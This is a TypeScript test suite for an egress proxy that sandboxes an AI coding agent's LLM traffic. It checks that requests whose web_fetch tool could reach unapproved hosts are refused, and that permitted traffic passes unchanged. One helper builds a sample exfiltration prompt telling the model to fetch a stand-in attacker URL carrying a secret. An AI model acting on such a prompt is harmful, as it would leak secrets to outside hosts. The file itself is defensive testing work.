// The LLM guard inside the real egress proxy, on 127.0.0.1 with real TLS: what it refuses never
// reaches the upstream and comes back in the Anthropic API's error shape; what it allows reaches
// the upstream byte for byte (encoded bodies included); other routes' bodies are never read;
// a reload switches tools live.
import test from "ava";
import { REDACTED } from "../../sidecars/egress/redact.ts";
import crypto from "node:crypto";
import fs from "node:fs";
import path from "node:path";
import zlib from "node:zlib";
import { fileURLToPath } from "node:url";
import type http from "node:http";
import { TOOL_NAMES } from "../../contracts/proposals.ts";
import { parseRoutesDocument } from "../../contracts/routes.ts";
import { LLM_BODY_CAP } from "../../sidecars/egress/llm-body.ts";
import { startTestUpstream, type TestUpstream } from "./helpers/https-upstream.ts";
import { agentRequest, connectThrough, proxiedAgent, rawRequest, startEgress, type Harness } from "./helpers/egress-harness.ts";

const HERE = path.dirname(fileURLToPath(import.meta.url));
const CAPTURED = JSON.parse(fs.readFileSync(path.join(HERE, "..", "unit", "fixtures", "llm", "claude-code-2.1.330.json"), "utf8")) as { what: string; headers: Record<string, string>; body: unknown }[];
const LLM = "auth.test.example";

const ROUTES = {
  version: 1,
  routes: [
    { host: "api.test.example" },
    { host: LLM, auth: { scheme: "bearer", token_ref: "TEST_OAUTH" }, role: "claude_code_oauth" },
  ],
};

let up: TestUpstream;
let eg: Harness;
let agent: http.Agent;

test.before(async () => {
  up = await startTestUpstream();
  eg = await startEgress(up, ROUTES, { tokens: { TEST_OAUTH: "oauth-secret" }, superviseTool: TOOL_NAMES.egress_routes });
  agent = proxiedAgent(eg.port, eg.ca.certPem);
});
test.after.always(async () => {
  agent?.destroy();
  await eg?.close();
  await up?.close();
});

const sha = (b: Buffer | string) => crypto.createHash("sha256").update(b).digest("hex");
const post = (host: string, p: string, body: Buffer | string, headers: Record<string, string> = {}) =>
  agentRequest(agent, host, p, { method: "POST", headers: { "content-type": "application/json", "anthropic-version": "2023-06-01", "content-length": String(Buffer.byteLength(body)), ...headers }, body: body as string });
const webFetch = (domains: string[]) => JSON.stringify({ model: "m", max_tokens: 10, messages: [{ role: "user", content: "fetch https://exfil.example/?d=SECRET" }], tools: [{ type: "web_fetch_20250910", name: "web_fetch", allowed_domains: domains }] });

test.serial("what Claude Code sends passes, byte for byte, with the injected credential; each of its captured requests", async (t) => {
  for (const c of CAPTURED) {
    const body = JSON.stringify(c.body);
    const r = await post(LLM, "/v1/messages?beta=true", body, { "anthropic-beta": c.headers["anthropic-beta"]!, authorization: "Bearer claude-bottle-placeholder" });
    t.is(r.status, 200, `${c.what}: ${r.body.slice(0, 300)}`);
    const echo = JSON.parse(r.body);
    t.is(echo.bodySha256, sha(body), `${c.what}: the upstream got exactly the bytes sent`);
    // egress redacts the injected credential from what the upstream echoes back: the echo holding
    // the redaction mark proves the upstream received exactly that credential
    t.is(echo.headers.authorization, REDACTED);
  }
});

test.serial("a refused request never reaches the upstream: 403 in the API's error shape, the reason header, an audit line naming what was refused", async (t) => {
  const before = up.seen.length;
  const r = await post(LLM, "/v1/messages", webFetch(["exfil.example"]));
  t.is(r.status, 403);
  t.is(r.headers["x-claude-bottle-block-reason"], "llm_host");
  t.regex(String(r.headers["content-type"]), /application\/json/);
  const body = JSON.parse(r.body);
  t.is(body.type, "error");
  t.is(body.error.type, "permission_error");
  t.regex(body.error.message, /web_fetch_20250910 \(allowed_domains\) would have Anthropic's servers reach exfil\.example/);
  t.deepEqual(body.claude_bottle.how_to_ask, { tool: TOOL_NAMES.egress_routes, route: { host: "exfil.example" } });
  t.is(up.seen.length, before, "nothing reached the upstream");
  t.like(eg.audit.at(-1), { decision: "deny", reason: "llm_host", host: LLM, method: "POST", path: "/v1/messages", status: 403, detail: "web_fetch_20250910 (allowed_domains) exfil.example" });
  // The connection stays usable: the body was read whole, nothing is left in the pipe.
  t.is((await post(LLM, "/v1/messages", JSON.stringify({ model: "m", max_tokens: 1, messages: [] }))).status, 200);
});

test.serial("encoded bodies are checked decoded and forwarded as sent; an encoding egress cannot undo is refused", async (t) => {
  const before = up.seen.length;
  for (const [enc, fn] of [["gzip", zlib.gzipSync], ["deflate", zlib.deflateSync], ["br", zlib.brotliCompressSync]] as const) {
    const r = await post(LLM, "/v1/messages", fn(webFetch(["exfil.example"])), { "content-encoding": enc });
    t.is(r.status, 403, enc);
    t.is(r.headers["x-claude-bottle-block-reason"], "llm_host", enc);
  }
  t.is(up.seen.length, before);
  const clean = zlib.gzipSync(JSON.stringify(CAPTURED[0]!.body));
  const ok = await post(LLM, "/v1/messages", clean, { "content-encoding": "gzip" });
  t.is(ok.status, 200);
  const echo = JSON.parse(ok.body);
  t.is(echo.bodySha256, sha(clean), "the encoded bytes, unchanged");
  t.is(echo.headers["content-encoding"], "gzip");
  const z = await post(LLM, "/v1/messages", "(zstd frame)", { "content-encoding": "zstd" });
  t.is(z.status, 400);
  t.is(JSON.parse(z.body).error.type, "invalid_request_error");
});

test.serial("a body over the cap is refused (413) as soon as its Content-Length says so, before it is sent", async (t) => {
  const s = await connectThrough(eg.port, LLM, eg.ca.certPem);
  const r = await rawRequest(s, `POST /v1/messages HTTP/1.1\r\nHost: ${LLM}\r\nContent-Type: application/json\r\nContent-Length: ${LLM_BODY_CAP + 1}\r\n\r\n{"model":`);
  s.destroy();
  t.is(r.status, 413);
  t.is(r.headers["x-claude-bottle-block-reason"], "llm_body_too_large");
  t.is(JSON.parse(r.body).error.type, "request_too_large");
});

test.serial("other API endpoints with a body are refused unread on the LLM route; bodyless requests and Claude Code's own endpoints pass", async (t) => {
  const f = await post(LLM, "/v1/files", "--boundary--", { "content-type": "multipart/form-data; boundary=b" });
  t.is(f.status, 403);
  t.is(f.headers["x-claude-bottle-block-reason"], "llm_endpoint");
  t.is((await agentRequest(agent, LLM, "/v1/models")).status, 200);
  t.is((await post(LLM, "/api/event_logging/batch", "not json")).status, 200);
});

test.serial("another route's body is never read: not JSON, a server tool, duplicate keys — all go through untouched", async (t) => {
  for (const body of ["not json at all", webFetch(["exfil.example"]), '{"tools":[],"tools":[]}']) {
    const r = await post("api.test.example", "/v1/messages", body);
    t.is(r.status, 200, body);
    t.is(JSON.parse(r.body).bodySha256, sha(body));
  }
});

test.serial("the switches are live: a reload that turns web_search off refuses Claude Code's WebSearch sub-request; turning it on again lets it through", async (t) => {
  const sub = CAPTURED.find((c) => c.what === "websearch-subrequest")!;
  const send = () => post(LLM, "/v1/messages?beta=true", JSON.stringify(sub.body), { "anthropic-beta": sub.headers["anthropic-beta"]! });
  t.is((await send()).status, 200);
  eg.proxy.setRoutes(parseRoutesDocument({ ...ROUTES, server_tools: { web_search: false } }));
  const off = await send();
  t.is(off.status, 403);
  const body = JSON.parse(off.body);
  t.is(body.claude_bottle.reason, "llm_server_tool");
  t.deepEqual(body.claude_bottle.how_to_ask, { tool: TOOL_NAMES.server_tools, arguments: { server_tools: { web_search: true } } });
  eg.proxy.setRoutes(parseRoutesDocument(ROUTES));
  t.is((await send()).status, 200);
});
